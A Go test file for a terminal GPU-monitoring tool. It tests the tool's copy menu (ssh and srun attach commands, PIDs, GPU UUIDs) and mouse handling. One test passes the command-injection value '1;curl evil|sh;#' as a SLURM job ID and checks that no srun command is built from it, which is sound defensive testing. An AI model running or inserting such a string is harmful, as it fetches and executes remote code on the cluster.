package inspect

import (
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/nvnodetop/nvnodetop/internal/tally"
)

func TestCopyKeys(t *testing.T) {
	for _, test := range []struct {
		keys, route, uuid string
		copies            string
		open              bool
	}{
		{"1", "ssh", "GPU-1", "77", false}, {"2", "ssh", "GPU-1", "n1:77", false}, {"3", "ssh", "GPU-1", "ssh -t n1", false}, {"4", "ssh", "GPU-1", "GPU-1", false},
		{"5", "ssh", "GPU-1", "python train.py", false}, {"6", "ssh", "GPU-1", "", true}, {"0", "ssh", "GPU-1", "", true},
		{"3", "control", "", "ssh -t n1", false}, {"3", "openssh", "", "ssh -t n1", false}, {"3", "srun", "", "srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash", false},
		{"3", "local", "", "python train.py", false}, {"3", "local", "GPU-1", "GPU-1", false},
		{"enter", "ssh", "", "77", false}, {"y", "ssh", "", "77", false}, {"down down enter", "ssh", "", "ssh -t n1", false}, {"end y", "ssh", "", "python train.py", false}, {"j k k enter", "ssh", "", "77", false},
		{"esc", "ssh", "", "", false}, {"q", "ssh", "", "", false}, {"x", "ssh", "", "", true},
	} {
		s := scene(100, 20, noon)
		c, first := NewCopy(target(), test.route, test.uuid)
		a, open := pressed(c, s, test.keys)
		if !first.Taken || !a.Taken || open != test.open || a.Copy != test.copies || (a.Notice != "") != (a.Copy != "") || !strings.Contains(a.Notice, a.Copy) {
			t.Errorf("%s over %s: %+v, open: %v, want %q", test.keys, test.route, a, open, test.copies)
		}
	}
	s := scene(100, 20, noon)
	c, _ := NewCopy(target(), "ssh", "")
	if a, open := pressed(c, s, "ctrl+c"); a.Taken || !open {
		t.Error("Ctrl-C is taken")
	}
}

// srun takes the number of a job, also where its ID is another one. Without a job that SLURM lists there is no such command: what a node says could
// be any command.
func TestAttach(t *testing.T) {
	s := scene(100, 20, noon)
	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) || (got == "") != (want == "") {
			t.Errorf("job %q: %q", job, got)
		}
	}
}

// A click copies the line under the mouse, and one elsewhere nothing.
func TestCopyMouse(t *testing.T) {
	s := scene(100, 20, noon)
	c, _ := NewCopy(target(), "ssh", "GPU-1")
	y := rowWith(drawn(s, c), "UUID of its GPU")
	if a, open := c.Press(tea.MouseClickMsg{Button: tea.MouseLeft, X: 30, Y: y}, s); open || a.Copy != "GPU-1" {
		t.Errorf("a click copies %+v, open: %v", a, open)
	}
	for _, y := range []int{0, y + 2, 19} {
		if a, open := c.Press(tea.MouseClickMsg{Button: tea.MouseLeft, X: 30, Y: y}, s); !open || a.Copy != "" {
			t.Errorf("a click on row %d copies %+v", y, a)
		}
	}
	c.Press(tea.MouseWheelMsg{Button: tea.MouseWheelDown}, s)
	if text := drawn(s, c); !strings.Contains(text, "▸ 4") {
		t.Errorf("the wheel leads to\n%s", text)
	}
}
